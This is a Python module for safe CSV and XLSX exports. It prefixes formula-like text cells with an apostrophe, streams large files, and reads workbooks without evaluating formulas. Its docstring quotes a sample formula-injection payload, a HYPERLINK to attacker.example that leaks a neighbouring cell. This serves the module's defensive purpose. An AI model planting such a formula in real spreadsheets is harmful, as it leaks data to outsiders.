"""Cells for CSV and spreadsheet exports: text never runs as a formula, numbers stay numbers.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage return) as a
formula: a product named `=HYPERLINK("http://attacker.example/?leak="&C2,"x")` would send the next cell to
another site when the file is opened. Every export writes its cells through `spreadsheet_cell` (or
`spreadsheet_writer`), which puts an apostrophe before such text, as OWASP recommends: the spreadsheet then shows
the text as it was typed. Plain numbers (`-12.50`) are left alone so that they still add up.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
from collections.abc import Iterable, Iterator
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def spreadsheet_cell(value):
    """The value as a safe cell: numbers unchanged, text neutralised when a spreadsheet would read a formula."""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def spreadsheet_writer(out, **kwargs) -> _SafeWriter:
    """A `csv.writer` whose every cell goes through `spreadsheet_cell`."""
    return _SafeWriter(csv.writer(out, **kwargs))


STREAM_CHUNK = 64 * 1024


def csv_stream(header: list, rows: Iterable) -> Iterator[str]:
    """A CSV in pieces of about 64 KB for a StreamingHttpResponse: memory stays flat however many rows."""
    buffer = io.StringIO()
    writer = spreadsheet_writer(buffer)
    writer.writerow(header)
    for row in rows:
        writer.writerow(row)
        if buffer.tell() >= STREAM_CHUNK:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def xlsx_stream(header: list, rows: Iterable, *, title: str) -> Iterator[bytes]:
    """An XLSX of one sheet in pieces for a StreamingHttpResponse, in constant memory.

    openpyxl's write-only mode writes each row to a temporary file as it comes (a normal workbook keeps every
    cell in memory: about 1 GB for 500,000 rows of 20 columns); the finished file is then read back in pieces.
    """
    from openpyxl import Workbook  # only exports need it

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    sheet.append([spreadsheet_cell(value) for value in header])
    for row in rows:
        sheet.append([spreadsheet_cell(value) for value in row])
    with tempfile.TemporaryFile() as out:
        workbook.save(out)
        out.seek(0)
        while chunk := out.read(STREAM_CHUNK):
            yield chunk


def xlsx_workbook(sheets: Iterable[tuple[str, list[list]]], *, header_rows: int = 1, hint_rows: int = 0) -> bytes:
    """A small XLSX of several sheets [(title, rows)], every cell through `spreadsheet_cell`. The first
    `header_rows` rows of each sheet are bold; on the first sheet, the `hint_rows` rows after them are grey italics."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook()
    workbook.remove(workbook.active)
    for index, (title, rows) in enumerate(sheets):
        sheet = workbook.create_sheet(title=str(title)[:31])
        for row in rows:
            sheet.append([spreadsheet_cell(value) for value in row])
        for number in range(1, header_rows + 1):
            for cell in sheet[number] if sheet.max_row >= number else ():
                cell.font = Font(bold=True)
        for number in range(header_rows + 1, header_rows + 1 + (hint_rows if index == 0 else 0)):
            for cell in sheet[number] if sheet.max_row >= number else ():
                cell.font = Font(italic=True, color="777777")
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


class XlsxUnreadable(Exception):
    """openpyxl could not read the file (it raises many kinds on a damaged one)."""


def xlsx_first_sheet_cells(data: bytes) -> Iterator[list[tuple[object, bool]]]:
    """The first sheet's rows as [(value, is_formula)], read-only and without evaluating formulas; the caller
    checks the archive's size first (an XLSX is a zip). Raises XlsxUnreadable on a damaged file."""
    from openpyxl import load_workbook

    try:
        workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=False)
    except Exception as error:
        raise XlsxUnreadable from error
    try:
        for row in workbook.worksheets[0].iter_rows():
            yield [(cell.value, getattr(cell, "data_type", None) == "f") for cell in row]
    except Exception as error:
        raise XlsxUnreadable from error
    finally:
        workbook.close()
